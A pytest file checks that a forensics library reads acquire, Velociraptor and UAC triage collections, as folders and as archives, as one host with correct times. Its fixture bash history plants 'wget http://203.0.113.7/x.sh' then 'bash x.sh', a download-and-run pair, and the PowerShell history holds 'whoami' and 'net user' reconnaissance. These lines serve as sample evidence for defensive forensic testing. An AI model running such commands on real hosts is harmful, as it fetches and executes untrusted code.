"""Triage collections read as one target: acquire (made by the real ``acquire`` tool), Velociraptor
offline collector and UAC layouts, each as a folder and as the archive the tool writes.

Every collection holds the same Linux host: ``/etc/hostname``, ``/etc/timezone`` Asia/Kolkata, an
``auth.log`` of year-less lines across New Year and root's bash history; the Windows Velociraptor
collection holds real EVTX files and a PSReadLine history."""

from __future__ import annotations

import datetime as dt
import os
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from forensics import Case

UTC = dt.timezone.utc
AUTH = ("Dec 31 23:59:58 ehosp-app01 sshd[100]: Failed password for root from 203.0.113.7 port 50000 ssh2\n"
        "Jan  1 00:00:03 ehosp-app01 sshd[101]: Accepted password for root from 203.0.113.7 port 50001 ssh2\n")
HISTORY = "#1669167000\nwget http://203.0.113.7/x.sh\n#1669167060\nbash x.sh\n"
MTIME = 1672552800  # 2023-01-01 06:00 UTC: the logs' modification time (dates the year-less lines)
# the host's files: path inside the host -> content
LINUX = {"etc/hostname": "ehosp-app01\n", "etc/timezone": "Asia/Kolkata\n", "var/log/auth.log": AUTH,
         "root/.bash_history": HISTORY}
AUTH_UTC = [dt.datetime(2022, 12, 31, 18, 29, 58, tzinfo=UTC), dt.datetime(2022, 12, 31, 18, 30, 3, tzinfo=UTC)]
HISTORY_UTC = [dt.datetime(2022, 11, 23, 1, 30, tzinfo=UTC), dt.datetime(2022, 11, 23, 1, 31, tzinfo=UTC)]


def _write(root: Path, files: dict[str, str | bytes]) -> Path:
    for rel, content in files.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(content.encode() if isinstance(content, str) else content)
        os.utime(p, (MTIME, MTIME))
    for d in sorted((p for p in root.rglob("*") if p.is_dir()), reverse=True):
        os.utime(d, (MTIME, MTIME))
    os.utime(root, (MTIME, MTIME))
    return root


def _zip(folder: Path, dest: Path) -> Path:
    """A zip of the folder's tree, members dated like the files (zip keeps local time; this machine's is UTC)."""
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zf:
        for p in sorted(folder.rglob("*")):
            if p.is_file():
                info = zipfile.ZipInfo(p.relative_to(folder).as_posix(), dt.datetime.fromtimestamp(p.stat().st_mtime, UTC).timetuple()[:6])
                zf.writestr(info, p.read_bytes(), zipfile.ZIP_DEFLATED)
    os.chmod(dest, 0o444)
    return dest


def _collect(tmp_path: Path, evidence: Path):
    case = Case(tmp_path / "case", create=True)
    rep = case.collect([evidence], workers=1)
    return case, rep


def _check_linux(case: Case, rep, name: str, fs_rows: int, log_mtime: int = MTIME) -> None:
    """One target: host and zone from the evidence, paths inside the host, exact rows and UTC times.
    ``log_mtime``: auth.log's modification time as the collection keeps it (it dates the year-less lines)."""
    assert rep.errors == 0 and rep.warnings == 0
    got = sorted((a["evidence_path"], a["collector"], a["rows"]) for a in rep.artifacts)
    assert got == sorted([("/root/.bash_history", "shell_history", 2), ("/var/log/auth.log", "syslog", 2),
                          (name, "target", fs_rows)])
    facts = next(a["facts"] for a in rep.artifacts if a["collector"] == "target")
    assert (facts["host"], facts["os"], facts["tz"], facts["tz_source"], facts["tz_from"]) == (
        "ehosp-app01", "unix", "Asia/Kolkata", "evidence_config", "/etc/timezone")
    t = case.timeline().to_pandas()
    assert len(t) == fs_rows + 4 and set(t.host) == {"ehosp-app01"}
    auth = t[t.evidence_path == "/var/log/auth.log"].sort_values("timestamp")
    # 23:59:58 IST on 31 Dec 2022, 00:00:03 IST on 1 Jan 2023 (the year of the file's time in IST)
    shift = dt.datetime.fromtimestamp(log_mtime, ZoneInfo("Asia/Kolkata")).year - 2023
    assert list(auth.timestamp) == [x.replace(year=x.year + shift) for x in AUTH_UTC]
    assert set(auth.tz_source) == {"evidence_config"} and list(auth.src_ip) == ["203.0.113.7"] * 2
    sh = t[t.evidence_path == "/root/.bash_history"].sort_values("timestamp")
    assert list(sh.timestamp) == HISTORY_UTC and list(sh.command_line) == ["wget http://203.0.113.7/x.sh", "bash x.sh"]
    assert set(sh.user) == {"root"}
    files = t[t.source == "FILE"]
    assert {"/etc/hostname", "/etc/timezone", "/var/log/auth.log", "/root/.bash_history"} <= set(files.path)
    assert not any(p.startswith(("/uploads", "/fs/", "/[root]", "uploads", "fs/")) for p in files.path)
    mtime = files[(files.path == "/var/log/auth.log") & (files.timestamp_desc == "Content Modification Time")]
    assert list(mtime.timestamp.astype("int64") // 10**9) == [log_mtime]
    assert case.verify().ok


# --- acquire -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def acquired(tmp_path_factory) -> dict[str, Path]:
    """The real ``acquire`` tool run on an OS-tree folder, once per output type (tar, zip, dir)."""
    base = tmp_path_factory.mktemp("acquire")
    root = _write(base / "ehosp-app01", LINUX)
    exe = Path(sys.executable).with_name("acquire")
    out = {}
    for kind in ("tar", "zip", "dir"):
        dest = base / kind
        dest.mkdir()
        subprocess.run([str(exe), str(root), "-o", str(dest), "-ot", kind, "-p", "none", "--path", "/etc",
                        "--path", "/var/log", "--path", "/root", "--disable-report"], check=True, capture_output=True)
        made = [p for p in dest.iterdir() if not p.name.endswith(".log")]
        assert len(made) == 1, made
        out[kind] = made[0]
    return out


def test_acquire_writes_its_fs_rootfs_layout(acquired):
    with tarfile.open(acquired["tar"]) as tf:
        assert sorted(m.name for m in tf.getmembers()) == [
            "fs/$rootfs$/etc/hostname", "fs/$rootfs$/etc/timezone", "fs/$rootfs$/root/.bash_history",
            "fs/$rootfs$/var/log/auth.log"]
    assert sorted(p.relative_to(acquired["dir"]).as_posix() for p in acquired["dir"].rglob("*") if p.is_file()) == [
        "fs/$rootfs$/etc/hostname", "fs/$rootfs$/etc/timezone", "fs/$rootfs$/root/.bash_history",
        "fs/$rootfs$/var/log/auth.log"]


@pytest.mark.parametrize("kind, fs_rows", [("tar", 4), ("zip", 4), ("dir", 24)])
def test_an_acquire_collection_is_one_target(acquired, tmp_path, kind, fs_rows):
    """tar and zip members carry one time each (their modification time): 4 files; the folder gives every
    file's and directory's M, A and C times: 8 entries x 3.

    acquire's ``-ot dir`` output does not keep the files' modification times (they are dated when acquire
    wrote them), so there the year-less lines are dated from the collection time, as ``attrs.year_source``
    says: the tar and zip outputs keep the real time."""
    ev = acquired[kind]
    case, rep = _collect(tmp_path, ev)
    if kind == "dir":
        log_mtime = (ev / "fs/$rootfs$/var/log/auth.log").stat().st_mtime_ns // 10**9
        assert log_mtime > MTIME  # the collection time, not the host's
        _check_linux(case, rep, ev.name + "/", fs_rows, log_mtime)
    else:
        _check_linux(case, rep, ev.name, fs_rows)


# --- Velociraptor -------------------------------------------------------------------------------


def _velociraptor(root: Path, files: dict[str, str | bytes], accessor: str = "auto") -> Path:
    """An offline collector's result, as Velociraptor (>= 0.7) writes it: ``uploads/<accessor>/<path>`` with
    each name URL-encoded (a leading dot as ``%2E``, ``:`` as ``%3A``, ``%`` as ``%25``), ``uploads.json``
    listing the uploads, ``results/`` the artifacts' JSON, ``log.json`` and ``collection_context.json``."""
    from urllib.parse import quote

    def enc(part: str) -> str:
        e = quote(part, safe=" $-_")
        return "%2E" + e[1:] if e.startswith(".") else e

    stored = {f"uploads/{accessor}/" + "/".join(enc(x) for x in rel.split("/")): c for rel, c in files.items()}
    index = "".join(f'{{"Timestamp":"2023-01-01T06:30:00Z","vfs_path":"/{accessor}/{rel}","file_size":{len(c)},'
                    f'"uploaded_size":{len(c)},"Type":""}}\n' for rel, c in files.items())
    stored |= {"uploads.json": index,
               "results/Generic.Collectors.File%2FUploads.json": index,
               "log.json": '{"_ts":1672554600,"level":"INFO","message":"Collection completed"}\n',
               "collection_context.json": '{"client_id":"C.1234abcd","session_id":"F.CE12","total_uploaded_files":%d}\n'
                                          % len(files)}
    return _write(root, stored)


def test_velociraptor_stores_names_url_encoded(tmp_path):
    root = _velociraptor(tmp_path / "Collection-ehosp-app01", LINUX)
    assert (root / "uploads/auto/root/%2Ebash_history").is_file() and (root / "uploads/auto/var/log/auth.log").is_file()


@pytest.mark.parametrize("form, fs_rows", [("folder", 24), ("zip", 4)])
def test_a_velociraptor_linux_collection_is_one_target(tmp_path, form, fs_rows):
    """The folder gives M, A and C times of 8 entries (4 files, 4 folders); the zip (files only, no folder
    members, as Velociraptor writes it) one time per file. ``%2Ebash_history`` reads as
    ``/root/.bash_history`` in both forms."""
    root = _velociraptor(tmp_path / "Collection-ehosp-app01-2023-01-01T06_30_00Z", LINUX)
    evidence = root if form == "folder" else _zip(root, tmp_path / f"{root.name}.zip")
    case, rep = _collect(tmp_path, evidence)
    _check_linux(case, rep, evidence.name + ("/" if form == "folder" else ""), fs_rows)
    files = set(case.timeline().to_pandas().query("source == 'FILE'").path)
    assert files == {"/etc/hostname", "/etc/timezone", "/root/.bash_history", "/var/log/auth.log"} | (
        {"/etc", "/root", "/var", "/var/log"} if form == "folder" else set())


@pytest.mark.parametrize("form", ["folder", "zip"])
def test_a_velociraptor_windows_collection_maps_the_c_drive(evidence, tmp_path, form):
    """``uploads/auto/C%3A/...`` is the c: drive; ``Sysmon%254Operational.evtx`` is the Windows name
    ``Microsoft-Windows-Sysmon%4Operational.evtx``. No registry hives collected, no ``client_info.json``: the host
    is the one the collection is named after, no zone (every local-time row would say assumed_utc; EVTX times
    are UTC anyway)."""
    samples = evidence / "omerbenamram-evtx" / "samples"
    logs = "C:/Windows/System32/winevt/Logs"
    files = {f"{logs}/Security.evtx": (samples / "Security_short_selected.evtx").read_bytes(),
             f"{logs}/Microsoft-Windows-Sysmon%4Operational.evtx": (samples / "sample_with_a_bad_chunk_magic.evtx").read_bytes(),
             "C:/Users/alice/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt": "whoami\nnet user\n"}
    root = _velociraptor(tmp_path / "Collection-DC01", files)
    assert (root / "uploads/auto/C%3A/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%254Operational.evtx").is_file()
    ev = root if form == "folder" else _zip(root, tmp_path / "Collection-DC01.zip")
    case, rep = _collect(tmp_path, ev)
    got = {a["evidence_path"]: (a["collector"], a["rows"]) for a in rep.artifacts if a["collector"] != "target"}
    assert got == {"c:/Windows/System32/winevt/Logs/Security.evtx": ("evtx", 7),
                   "c:/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx": ("evtx", 301),
                   "c:/Users/alice/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt": ("shell_history", 2)}
    target = next(a for a in rep.artifacts if a["collector"] == "target")
    assert (target["facts"]["os"], target["facts"]["host"], target["facts"]["host_source"], target["facts"]["host_from"],
            target["facts"]["tz"]) == ("windows", "DC01", "os", "collection name", None)
    # the only problems: the damage noticed in the sample with bad chunks (166 records of damaged stretches of
    # frames counted lost), no plugin noise
    assert rep.errors == 166
    assert {p["kind"] for p in case.problems().to_pylist()} == {"damage", "parser_error", "damaged_frames"}
    loose = Case(tmp_path / "loose", create=True)
    loose.collect([samples / "Security_short_selected.evtx", samples / "sample_with_a_bad_chunk_magic.evtx"], workers=1)
    assert set(case.timeline().column("event_hash").to_pylist()) >= set(loose.timeline().column("event_hash").to_pylist())
    paths = set(case.timeline().to_pandas().query("source == 'FILE'").path)
    assert "c:/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx" in paths
    assert not any("%3A" in p or "%25" in p or p.startswith("uploads") for p in paths)


# --- UAC ----------------------------------------------------------------------------------------


def _uac(root: Path) -> Path:
    """UAC's output: the host's files under ``[root]/``, ``uac.log``, ``live_response/`` command output and
    ``bodyfile/bodyfile.txt`` (not part of the host's tree)."""
    return _write(root, {**{f"[root]/{k}": v for k, v in LINUX.items()},
                         "uac.log": "2023-01-01 06:30:00 +0000 INFO UAC (Unix-like Artifacts Collector) 2.9.1\n",
                         "live_response/system/uname_-a.txt": "Linux ehosp-app01 5.10.0-19-amd64 x86_64 GNU/Linux\n",
                         "bodyfile/bodyfile.txt": "0|/etc/hostname|1234|-rw-r--r--|0|0|12|1672552800|1672552800|1672552800|0\n"})


def _uac_tar(root: Path, dest: Path) -> Path:
    """``tar czf`` run inside the output folder, as UAC does (members ``./[root]/...``)."""
    with tarfile.open(dest, "w:gz") as tf:
        tf.add(root, arcname=".")
    os.chmod(dest, 0o444)
    return dest


@pytest.mark.parametrize("form, fs_rows", [("folder", 24), ("tar.gz", 8)])
def test_a_uac_collection_is_one_target(tmp_path, form, fs_rows):
    """Only ``[root]`` is the host's tree: uac.log, live_response and the bodyfile give no rows."""
    root = _uac(tmp_path / "uac-ehosp-app01-linux-20230101063000")
    ev = root if form == "folder" else _uac_tar(root, tmp_path / f"{root.name}.tar.gz")
    case, rep = _collect(tmp_path, ev)
    _check_linux(case, rep, ev.name + ("/" if form == "folder" else ""), fs_rows)
    files = case.timeline().to_pandas().query("source == 'FILE'")
    assert sorted(set(files.path)) == ["/etc", "/etc/hostname", "/etc/timezone", "/root", "/root/.bash_history",
                                       "/var", "/var/log", "/var/log/auth.log"]
    if form == "folder":  # every file of the folder, uac.log and the bodyfile included, is hashed into custody
        assert len(rep.evidence[0]["files"]) == 7
